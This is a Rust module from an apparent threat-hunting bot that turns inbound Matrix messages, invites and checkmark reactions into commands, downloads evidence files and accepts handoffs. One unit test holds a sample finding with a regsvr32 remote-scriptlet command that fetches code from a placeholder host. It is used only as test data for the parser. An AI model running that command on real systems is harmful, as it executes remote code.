//! Inbound Matrix events: commands in text messages, invites and ✅
//! reactions on handoff cards, turned into [`ChatEvent`]s for
//! [`App::handle`].
//!
//! Only the plain `body` of a message is read; the HTML `formatted_body` is
//! never parsed, so markup cannot hide text from the finding parser.

use std::collections::HashSet;
use std::sync::Arc;
use std::time::Duration;

use chrono::Utc;
use matrix_sdk::event_handler::Ctx;
use matrix_sdk::media::{MediaFormat, MediaRequestParameters};
use matrix_sdk::ruma::events::AnySyncMessageLikeEvent;
use matrix_sdk::ruma::events::AnySyncTimelineEvent;
use matrix_sdk::ruma::events::SyncMessageLikeEvent;
use matrix_sdk::ruma::events::reaction::OriginalSyncReactionEvent;
use matrix_sdk::ruma::events::room::member::{MembershipState, StrippedRoomMemberEvent};
use matrix_sdk::ruma::events::room::message::{
    MessageType, OriginalSyncRoomMessageEvent, Relation,
};
use matrix_sdk::ruma::matrix_uri::MatrixId;
use matrix_sdk::ruma::{
    MatrixToUri, MatrixUri, OwnedEventId, OwnedRoomAliasId, OwnedRoomId, OwnedRoomOrAliasId,
    OwnedUserId,
};
use matrix_sdk::{Client, Room, RoomState};
use tracing::{debug, error, info, warn};

use super::PLATFORM;
use super::reaction;
use crate::app::auth::Role;
use crate::app::command::{self, Command};
use crate::app::{App, MAX_FILE_BYTES};
use crate::chat::{Attachment, ChatEvent};

/// The largest declared media size that is downloaded for `/evidence`.
/// Files up to twice [`MAX_FILE_BYTES`] are fetched so the app can reply
/// with their real size.
// NOTE: a file that declares more than this is skipped, and the app then
// replies that no file came with the command instead of naming its size.
const MAX_DOWNLOAD_BYTES: u64 = 2 * MAX_FILE_BYTES as u64;
/// Files one `/evidence` command may reference.
const MAX_REFERENCES: usize = 10;
/// First and last delay between attempts to join a room after an invite.
const JOIN_FIRST_DELAY: Duration = Duration::from_secs(2);
const JOIN_MAX_DELAY: Duration = Duration::from_secs(3600);

/// A timeline event the sync handlers queued for [`Inbound::handle_queued`].
pub enum Queued {
    Message(Room, Box<OriginalSyncRoomMessageEvent>),
    Reaction(Room, OriginalSyncReactionEvent),
}

/// State shared by the event handlers.
pub struct Inbound {
    pub app: App,
    pub own_user: OwnedUserId,
    pub prefixes: Vec<String>,
    pub auto_join: bool,
    /// Room IDs from `[rooms]`, aliases already resolved.
    pub configured_rooms: HashSet<String>,
    /// Test hook, from [`ABORT_ON_COMMAND_ENV`].
    pub abort_on: Option<String>,
    /// Messages and reactions of the sync response being processed, in the
    /// order matrix-sdk ran the handlers. They are handled after the gaps of
    /// cut-short rooms are caught up. A command in a gap is older, so it
    /// runs before the newer commands of the same response.
    pub queue: std::sync::Mutex<Vec<Queued>>,
}

impl Inbound {
    fn enqueue(&self, item: Queued) {
        self.queue
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .push(item);
    }

    /// Handles the messages and reactions queued by the sync handlers, in
    /// the order they were queued.
    pub async fn handle_queued(&self, client: &Client) {
        let queued = std::mem::take(
            &mut *self
                .queue
                .lock()
                .unwrap_or_else(std::sync::PoisonError::into_inner),
        );
        for item in queued {
            match item {
                Queued::Message(room, event) => on_message(self, client, &room, *event).await,
                Queued::Reaction(room, event) => on_reaction(self, &room, event).await,
            }
        }
    }
}

/// Environment variable for the crash test: abort the process when a command
/// contains this text, after matrix-sdk saved the sync token and before the
/// app records the command.
pub const ABORT_ON_COMMAND_ENV: &str = "HUNTBRIDGE_TEST_ABORT_ON_COMMAND";

/// Registers the message, invite and reaction handlers on `client`.
/// Messages and reactions are queued for [`Inbound::handle_queued`], which
/// runs after each sync response. Invites are accepted or rejected at once.
pub fn register(client: &Client, inbound: Arc<Inbound>) {
    client.add_event_handler_context(inbound);
    client.add_event_handler(
        |event: OriginalSyncRoomMessageEvent, room: Room, Ctx(inbound): Ctx<Arc<Inbound>>| async move {
            inbound.enqueue(Queued::Message(room, Box::new(event)));
        },
    );
    client.add_event_handler(
        |event: StrippedRoomMemberEvent, room: Room, Ctx(inbound): Ctx<Arc<Inbound>>| async move {
            on_invite(&inbound, room, event);
        },
    );
    client.add_event_handler(
        |event: OriginalSyncReactionEvent, room: Room, Ctx(inbound): Ctx<Arc<Inbound>>| async move {
            inbound.enqueue(Queued::Reaction(room, event));
        },
    );
}

pub(super) async fn on_message(
    inbound: &Inbound,
    client: &Client,
    room: &Room,
    event: OriginalSyncRoomMessageEvent,
) {
    if room.state() != RoomState::Joined || event.sender == inbound.own_user {
        return;
    }
    let Some(text) = message_command(inbound, &event) else {
        return;
    };
    debug!(room = %room.room_id(), event = %event.event_id, "matrix command received");
    if let Some(marker) = inbound.abort_on.as_deref()
        && text.contains(marker)
    {
        error!(room = %room.room_id(), event = %event.event_id, "{ABORT_ON_COMMAND_ENV} matched; aborting");
        std::process::abort();
    }
    let replied_to = reply_target(event.content.relates_to.as_ref());

    let mut attachments = Vec::new();
    if let Some(invocation) = command::split(&text)
        && invocation.command == Some(Command::Evidence)
    {
        let references = evidence_references(room, replied_to, invocation.args);
        attachments = download_all(client, room, &event.sender, references).await;
    }

    let chat_event = ChatEvent {
        platform: PLATFORM.into(),
        event_id: event.event_id.to_string(),
        room_id: room.room_id().to_string(),
        sender: event.sender.to_string(),
        text,
        attachments,
        received_at: Utc::now(),
    };
    handle(&inbound.app, chat_event).await;
}

/// Extracts the command of a text message in the app's `/word args` form, or
/// returns `None` when the message is no command.
pub(super) fn message_command(
    inbound: &Inbound,
    event: &OriginalSyncRoomMessageEvent,
) -> Option<String> {
    // Notices are bot output by convention; files are only read when a
    // command refers to them.
    let MessageType::Text(content) = &event.content.msgtype else {
        return None;
    };
    let body = if reply_target(event.content.relates_to.as_ref()).is_some() {
        strip_reply_fallback(&content.body)
    } else {
        content.body.as_str()
    };
    command_text(body, &inbound.prefixes)
}

/// Passes an event to the app; failures are logged, the sync goes on.
async fn handle(app: &App, event: ChatEvent) {
    let room = event.room_id.clone();
    let event_id = event.event_id.clone();
    match app.handle(event).await {
        Ok(outcome) => debug!(room = %room, event = %event_id, ?outcome, "matrix event handled"),
        Err(cause) => {
            error!(room = %room, event = %event_id, error = %format!("{cause:#}"), "matrix event could not be handled");
        }
    }
}

/// Rewrites a message that starts with one of `prefixes` to the app's
/// `/word args` form; other messages are not commands.
pub fn command_text(body: &str, prefixes: &[String]) -> Option<String> {
    let trimmed = body.trim_start();
    let rest = prefixes
        .iter()
        .filter(|prefix| trimmed.starts_with(prefix.as_str()))
        .max_by_key(|prefix| prefix.len())
        .map(|prefix| &trimmed[prefix.len()..])?;
    let word_starts = rest.chars().next().is_some_and(char::is_alphabetic);
    word_starts.then(|| format!("/{rest}"))
}

/// Returns the event a message replies to, directly or inside a thread.
fn reply_target<C>(relation: Option<&Relation<C>>) -> Option<OwnedEventId> {
    match relation? {
        Relation::Reply(reply) => Some(reply.in_reply_to.event_id.clone()),
        Relation::Thread(thread) if !thread.is_falling_back => thread
            .in_reply_to
            .as_ref()
            .map(|in_reply_to| in_reply_to.event_id.clone()),
        _ => None,
    }
}

/// Removes the quoted `> ` lines that older clients put before a reply.
pub fn strip_reply_fallback(body: &str) -> &str {
    if !body.starts_with("> <") {
        return body;
    }
    let mut rest = body;
    while rest.starts_with('>') {
        match rest.find('\n') {
            Some(end) => rest = &rest[end + 1..],
            None => return "",
        }
    }
    rest.strip_prefix('\n').unwrap_or(rest)
}

/// A file event an `/evidence` command refers to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reference {
    /// `None` means the command's own room.
    pub room: Option<OwnedRoomOrAliasId>,
    pub event_id: OwnedEventId,
}

/// Collects the replied-to event first, then every event link in `args`.
fn evidence_references(
    room: &Room,
    replied_to: Option<OwnedEventId>,
    args: &str,
) -> Vec<Reference> {
    let mut references: Vec<Reference> = replied_to
        .map(|event_id| Reference {
            room: None,
            event_id,
        })
        .into_iter()
        .collect();
    for link in event_links(args) {
        let same_room = link
            .room
            .as_ref()
            .is_some_and(|room_ref| room_ref.as_str() == room.room_id().as_str());
        let link = if same_room {
            Reference {
                room: None,
                event_id: link.event_id,
            }
        } else {
            link
        };
        if !references.contains(&link) {
            references.push(link);
        }
    }
    references.truncate(MAX_REFERENCES);
    references
}

/// Event links (`https://matrix.to/#/!room/$event` or
/// `matrix:roomid/room/e/event`) among the words of `text`.
pub fn event_links(text: &str) -> Vec<Reference> {
    text.split_whitespace()
        .map(|word| word.trim_matches(|c| matches!(c, '<' | '>' | '(' | ')' | ',')))
        .filter_map(|word| {
            let id = if word.starts_with("https://matrix.to/") {
                MatrixToUri::parse(word).ok()?.id().clone()
            } else if word.starts_with("matrix:") {
                MatrixUri::parse(word).ok()?.id().clone()
            } else {
                return None;
            };
            match id {
                MatrixId::Event(room, event_id) => Some(Reference {
                    room: Some(room),
                    event_id,
                }),
                _ => None,
            }
        })
        .collect()
}

async fn download_all(
    client: &Client,
    room: &Room,
    sender: &OwnedUserId,
    references: Vec<Reference>,
) -> Vec<Attachment> {
    let mut attachments = Vec::new();
    for reference in references {
        match download(client, room, sender, &reference).await {
            Ok(attachment) => attachments.push(attachment),
            Err(cause) => {
                warn!(room = %room.room_id(), event = %reference.event_id, error = %format!("{cause:#}"), "evidence file not attached");
            }
        }
    }
    attachments
}

/// Downloads (and decrypts) the file of a referenced `m.file` or `m.image`
/// event. An event in another room is read only if `sender` is joined there,
/// so a link cannot copy a file out of a room its sender cannot see.
async fn download(
    client: &Client,
    room: &Room,
    sender: &OwnedUserId,
    reference: &Reference,
) -> anyhow::Result<Attachment> {
    use anyhow::{Context, bail};

    let source_room = match &reference.room {
        None => room.clone(),
        Some(room_or_alias) => {
            let parsed: Result<OwnedRoomId, OwnedRoomAliasId> = room_or_alias.clone().try_into();
            let room_id = match parsed {
                Ok(room_id) => room_id,
                Err(alias) => {
                    client
                        .resolve_room_alias(&alias)
                        .await
                        .with_context(|| format!("failed to resolve room alias {alias}"))?
                        .room_id
                }
            };
            let other = client
                .get_room(&room_id)
                .with_context(|| format!("the bot is not in room {room_id}"))?;
            let member = other
                .get_member(sender)
                .await
                .context("failed to read the room members")?;
            let joined = member.is_some_and(|member| *member.membership() == MembershipState::Join);
            if !joined {
                bail!("{sender} is not a member of room {room_id}");
            }
            other
        }
    };

    let timeline_event = source_room
        .event(&reference.event_id, None)
        .await
        .context("failed to fetch the event")?;
    let event = timeline_event
        .raw()
        .deserialize()
        .context("the event cannot be read (not decrypted?)")?;
    let AnySyncTimelineEvent::MessageLike(AnySyncMessageLikeEvent::RoomMessage(
        SyncMessageLikeEvent::Original(message),
    )) = event
    else {
        bail!("the event is not a message");
    };
    let (name, mime, size, source) = match message.content.msgtype {
        MessageType::File(file) => {
            let info = file.info.as_deref();
            (
                file.filename().to_string(),
                info.and_then(|info| info.mimetype.clone()),
                info.and_then(|info| info.size),
                file.source,
            )
        }
        MessageType::Image(image) => {
            let info = image.info.as_deref();
            (
                image.filename().to_string(),
                info.and_then(|info| info.mimetype.clone()),
                info.and_then(|info| info.size),
                image.source,
            )
        }
        _ => bail!("the event is not a file or an image"),
    };
    if let Some(size) = size
        && u64::from(size) > MAX_DOWNLOAD_BYTES
    {
        bail!("the file declares {size} bytes, more than {MAX_DOWNLOAD_BYTES}");
    }
    let request = MediaRequestParameters {
        source,
        format: MediaFormat::File,
    };
    let content = client
        .media()
        .get_media_content(&request, false)
        .await
        .context("failed to download the file")?;
    info!(room = %room.room_id(), event = %reference.event_id, size = content.len(), "evidence file downloaded");
    Ok(Attachment {
        name,
        mime: mime.unwrap_or_else(|| "application/octet-stream".into()),
        content,
    })
}

fn on_invite(inbound: &Inbound, room: Room, event: StrippedRoomMemberEvent) {
    if event.state_key != inbound.own_user
        || event.content.membership != MembershipState::Invite
        || room.state() != RoomState::Invited
    {
        return;
    }
    answer_invite(inbound, room, event.sender);
}

/// Joins a room the bot is invited to when the room is configured or the
/// inviter is in `[users]`, and rejects the invite otherwise. The join or
/// rejection runs in its own task.
pub fn answer_invite(inbound: &Inbound, room: Room, inviter: OwnedUserId) {
    let room_id = room.room_id().to_owned();
    if !inbound.auto_join {
        info!(room = %room_id, inviter = %inviter, "invite left pending: matrix.auto_join is off");
        return;
    }
    let from_configured_room = inbound.configured_rooms.contains(room_id.as_str());
    let from_known_user = inbound
        .app
        .shared()
        .config
        .users
        .contains_key(inviter.as_str());
    if !from_configured_room && !from_known_user {
        info!(room = %room_id, inviter = %inviter, "invite rejected: neither a configured room nor a user in [users]");
        tokio::spawn(async move {
            if let Err(error) = room.leave().await {
                warn!(room = %room_id, %error, "failed to reject the invite");
            }
        });
        return;
    }

    // Synapse may send the invite before the room accepts the join, so the
    // join is retried with a growing delay.
    tokio::spawn(async move {
        let mut delay = JOIN_FIRST_DELAY;
        loop {
            match room.join().await {
                Ok(()) => {
                    info!(room = %room_id, inviter = %inviter, "room joined after invite");
                    return;
                }
                Err(error) if delay <= JOIN_MAX_DELAY => {
                    warn!(room = %room_id, retry_in_ms = delay.as_millis() as u64, %error, "join failed, will retry");
                    tokio::time::sleep(delay).await;
                    delay *= 2;
                }
                Err(error) => {
                    error!(room = %room_id, %error, "join given up");
                    return;
                }
            }
        }
    });
}

/// Accepts a handoff when a responder reacts with ✅ to its card, as if the
/// responder had sent `/handoff F-n accept`.
pub(super) async fn on_reaction(inbound: &Inbound, room: &Room, event: OriginalSyncReactionEvent) {
    if room.state() != RoomState::Joined
        || event.sender == inbound.own_user
        || !is_accept_key(&event.content.relates_to.key)
    {
        return;
    }
    let roles = inbound.app.directory().roles_of(event.sender.as_str());
    if !roles.contains(&Role::Responder) && !roles.contains(&Role::Admin) {
        debug!(room = %room.room_id(), actor = %event.sender, "✅ from a user who is not a responder ignored");
        return;
    }
    let card = &event.content.relates_to.event_id;
    let finding = match reaction::handoff_finding(&inbound.app, card.as_str()).await {
        Ok(Some(finding)) => finding,
        Ok(None) => return,
        Err(cause) => {
            error!(room = %room.room_id(), event = %event.event_id, error = %format!("{cause:#}"), "failed to look up the reacted message");
            return;
        }
    };
    info!(room = %room.room_id(), event = %event.event_id, finding = %finding, actor = %event.sender, "handoff accepted by reaction");
    let chat_event = ChatEvent {
        platform: PLATFORM.into(),
        event_id: event.event_id.to_string(),
        room_id: room.room_id().to_string(),
        sender: event.sender.to_string(),
        text: format!("/handoff {finding} accept"),
        attachments: Vec::new(),
        received_at: Utc::now(),
    };
    handle(&inbound.app, chat_event).await;
}

/// ✅, with or without the emoji variation selector.
pub(super) fn is_accept_key(key: &str) -> bool {
    key.trim_end_matches('\u{fe0f}') == "\u{2705}"
}

#[cfg(test)]
mod tests {
    use super::*;

    fn prefixes(list: &[&str]) -> Vec<String> {
        list.iter().map(|prefix| prefix.to_string()).collect()
    }

    #[test]
    fn prefixes_become_slash_commands() {
        let default = prefixes(&["!", "/"]);
        assert_eq!(
            command_text("!finding x", &default).as_deref(),
            Some("/finding x")
        );
        assert_eq!(
            command_text("/status all", &default).as_deref(),
            Some("/status all")
        );
        assert_eq!(command_text("  !help", &default).as_deref(), Some("/help"));
    }

    #[test]
    fn plain_messages_are_not_commands() {
        let default = prefixes(&["!", "/"]);
        assert_eq!(command_text("hello team", &default), None);
        assert_eq!(command_text("! not a command", &default), None);
        assert_eq!(command_text("!", &default), None);
        assert_eq!(command_text("/ ", &default), None);
    }

    #[test]
    fn configured_prefix_replaces_defaults() {
        let custom = prefixes(&["hb!"]);
        assert_eq!(
            command_text("hb!status", &custom).as_deref(),
            Some("/status")
        );
        assert_eq!(command_text("/status", &custom), None);
        assert_eq!(command_text("!status", &custom), None);
    }

    #[test]
    fn longest_prefix_wins() {
        let both = prefixes(&["!", "!!"]);
        assert_eq!(command_text("!!status", &both).as_deref(), Some("/status"));
    }

    #[test]
    fn multi_line_body_is_kept() {
        let body = "!finding regsvr32 remote scriptlet\nhosts: ws-01\n```\nregsvr32 /s /i:http://x scrobj.dll\n```";
        let text = command_text(body, &prefixes(&["!"])).unwrap();
        assert_eq!(text, format!("/{}", &body[1..]));
    }

    #[test]
    fn reply_fallback_is_removed() {
        let body = "> <@ana:localhost> report.pdf\n> second line\n\n!evidence F-1";
        assert_eq!(strip_reply_fallback(body), "!evidence F-1");
        assert_eq!(strip_reply_fallback("!evidence F-1"), "!evidence F-1");
        assert_eq!(strip_reply_fallback("> <@ana:localhost> only"), "");
    }

    #[test]
    fn quoted_text_without_fallback_is_kept() {
        let body = "> a quote\n!status";
        assert_eq!(strip_reply_fallback(body), body);
    }

    #[test]
    fn event_links_are_found() {
        let text = "F-3 https://matrix.to/#/!hunt:localhost/$abc123?via=localhost and matrix:roomid/hunt:localhost/e/def456";
        let links = event_links(text);
        assert_eq!(links.len(), 2);
        assert_eq!(links[0].event_id.as_str(), "$abc123");
        assert_eq!(links[0].room.as_ref().unwrap().as_str(), "!hunt:localhost");
        assert_eq!(links[1].event_id.as_str(), "$def456");
    }

    #[test]
    fn room_and_user_links_are_not_events() {
        let text = "https://matrix.to/#/!hunt:localhost https://matrix.to/#/@ana:localhost";
        assert!(event_links(text).is_empty());
    }

    #[test]
    fn accept_key_with_variation_selector() {
        assert!(is_accept_key("✅"));
        assert!(is_accept_key("✅\u{fe0f}"));
        assert!(!is_accept_key("👍"));
        assert!(!is_accept_key("✔️"));
    }
}
